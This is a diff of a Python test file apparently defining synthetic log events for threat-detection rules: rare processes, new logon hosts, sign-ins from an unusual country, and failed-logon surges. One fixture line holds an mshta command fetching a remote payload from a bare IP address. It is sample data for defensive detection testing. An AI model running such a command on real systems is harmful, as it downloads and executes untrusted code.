@@ -52,6 +52,10 @@ CASES: dict[str, tuple[str, list[Row]]] = {
     "first": ("DeviceProcessEvents", [*commands.history(), commands.command(
         5.9 * commands.DAY, "mshta http://45.77.10.20/a", name="mshta.exe", parent="explorer.exe")]),
     "unlike": ("SigninLogs", [*past.past(), past.entry(5.5 * past.DAY, **past.ABROAD, **past.OTHER)]),
+    "new hosts": ("DeviceLogonEvents", past.roaming(6)),
+    "rare": ("DeviceProcessEvents", [endpoints.placed(i, f"ws{i % 6}", "tool.exe") for i in range(250)]
+             + [endpoints.placed(300, "ws1", "q.exe")]),
+    "country": ("SigninLogs", [*past.past(), past.entry(5.5 * past.DAY, country="RO")]),
     "grant": ("AzureActivity", past.operating()),
     "surge": ("DeviceLogonEvents", [*endpoints.failing(60), *endpoints.failed_at_once(40)]),
     "reach": ("DeviceNetworkEvents", endpoints.reaching(8)),
